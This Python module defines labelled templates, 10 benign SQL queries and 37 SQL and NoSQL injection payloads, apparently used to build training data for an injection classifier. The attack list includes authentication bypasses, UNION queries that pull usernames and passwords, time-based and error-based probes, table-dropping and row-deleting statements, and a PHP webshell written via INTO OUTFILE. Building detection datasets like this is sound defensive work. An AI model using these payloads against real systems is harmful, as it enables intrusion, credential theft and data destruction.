"""Labelled payload templates used to build training corpora and requests."""

from __future__ import annotations

from urllib.parse import quote_plus

# ---------------------------------------------------------------------------
# The 10 safe and 37 attack templates of the original training
# set, verbatim and in their original order. Template id = position (safe first, then attacks).
# ---------------------------------------------------------------------------
SAFE_TEMPLATES = [
    "SELECT * FROM users WHERE id = 1",
    "SELECT name, email FROM customers",
    "INSERT INTO products (name, price) VALUES ('Product', 10.99)",
    "UPDATE users SET email = 'new@email.com' WHERE id = 5",
    "DELETE FROM orders WHERE status = 'cancelled'",
    "SELECT COUNT(*) FROM transactions",
    "SELECT * FROM users ORDER BY name ASC",
    "SELECT u.name, o.total FROM users u JOIN orders o ON u.id = o.user_id",
    "SELECT * FROM products WHERE category = 'electronics'",
    "SELECT AVG(price) FROM products",
]

ATTACK_TEMPLATES = [
    "admin' OR '1'='1",
    "admin' OR '1'='1' --",
    "admin' OR '1'='1' /*",
    "' OR 1=1 --",
    "' OR 'a'='a",
    "' OR 1=1#",
    "' UNION SELECT NULL, NULL, NULL --",
    "' UNION SELECT username, password FROM users --",
    "' UNION SELECT 1,2,3,4,5,6,7,8,9,10 --",
    "1' UNION SELECT NULL, version() --",
    "' AND 1=1 --",
    "' AND 1=2 --",
    "' AND 'a'='a",
    "' AND 'a'='b",
    "1' AND SUBSTRING(@@version,1,1)='5' --",
    "'; WAITFOR DELAY '00:00:05' --",
    "'; SELECT SLEEP(5) --",
    "'; BENCHMARK(5000000,MD5(1)) --",
    "1'; SELECT pg_sleep(5) --",
    "' AND EXTRACTVALUE(1, CONCAT(0x7e, (SELECT version()), 0x7e)) --",
    "' AND UPDATEXML(1, CONCAT(0x7e, (SELECT version()), 0x7e), 1) --",
    "' AND (SELECT * FROM (SELECT COUNT(*), CONCAT(version(), FLOOR(RAND(0)*2)) x FROM information_schema.tables GROUP BY x) a) --",
    "'; DROP TABLE users --",
    "'; DELETE FROM users WHERE '1'='1' --",
    "'; INSERT INTO users (username, password) VALUES ('hacker', 'pass') --",
    "admin' UNION SELECT '<?php eval($_POST[cmd]); ?>' INTO OUTFILE '/var/www/shell.php' --",
    "%27%20OR%20%271%27%3D%271",
    "CHAR(39) OR CHAR(49)=CHAR(49)",
    "0x27204F52202731273D2731",
    "CONCAT(CHAR(39), ' OR ', CHAR(39), '1', CHAR(39), '=', CHAR(39), '1')",
    "' UNION SELECT table_name FROM information_schema.tables --",
    "' UNION SELECT column_name FROM information_schema.columns WHERE table_name='users' --",
    "'; return true; var x = '",
    "$where: function() { return true; }",
    "' OR IF(1=1, SLEEP(5), 0) --",
    "' OR CASE WHEN 1=1 THEN SLEEP(5) ELSE 0 END --",
    "1' AND IF(ASCII(SUBSTRING(@@version,1,1))>53, SLEEP(5), 0) --",
]


def template_rows(safe: list[str] | None = None, attack: list[str] | None = None):
    """(tid, payload, payload_enc, label) rows; payload_enc is form-encoded."""
    safe = SAFE_TEMPLATES if safe is None else safe
    attack = ATTACK_TEMPLATES if attack is None else attack
    rows = [(i, p, quote_plus(p), 0) for i, p in enumerate(safe)]
    rows += [(len(safe) + i, p, quote_plus(p), 1) for i, p in enumerate(attack)]
    return rows


TEMPLATE_SCHEMA = "tid INT, payload STRING, payload_enc STRING, label INT"
